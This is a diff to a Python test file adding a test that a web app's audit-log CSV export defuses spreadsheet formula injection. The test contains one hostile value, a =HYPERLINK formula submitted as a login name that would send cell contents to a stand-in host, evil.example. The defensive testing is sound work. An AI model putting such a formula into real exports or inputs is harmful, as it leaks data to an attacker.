@@ -6,7 +6,9 @@ server off; the app is built in-process from the same factory ``serve`` uses.
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import itertools
 import logging
 import threading
@@ -29,6 +31,7 @@ from node.errors import ConfigError
 from node.runtime import Node
 from node.users.accounts import Accounts
 from node.web.app import create_app
+from node.web.audit import AuditRecord, csv_lines
 from node.web.secret import KEY_FILE, MIN_KEY_CHARS, session_secret
 from node.worklist import list_studies
 from tests.conftest import node_config
@@ -352,6 +355,23 @@ def test_audit_times_without_a_time_zone_are_utc(client: TestClient, node: Node)
         assert page.status_code == 200 and f"<td>{shown}</td>" in page.text
         csv = client.get("/api/audit/export.csv", params=params).text.splitlines()
         assert [line.split(",")[1] for line in csv[1:]] == [shown]
+
+
+def test_audit_csv_cells_never_start_a_formula(client: TestClient) -> None:
+    """Anyone can put a name in the audit trail by failing to log in; opened in a
+    spreadsheet, the export must show it as text, not run it as a formula."""
+    bad = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    failed = client.post("/api/session", json={"name": bad, "password": "whatever1"})
+    assert failed.status_code == 401
+    login(client, "admin")
+    rows = list(csv.reader(io.StringIO(client.get("/api/audit/export.csv").text)))
+    assert [row[1] for row in rows if row[2] == "login.failed"] == ["'" + bad]
+    # Every column, every character that starts a formula.
+    time = datetime(2026, 1, 1, tzinfo=UTC)
+    for start in "=+-@\t\r":
+        texts = [start + c for c in "ua1dc"]
+        text = "".join(csv_lines([AuditRecord(1, time, *texts)]))
+        assert list(csv.reader(io.StringIO(text)))[1][1:] == ["'" + t for t in texts]
 
 
 BAD_RULES = """format = 1
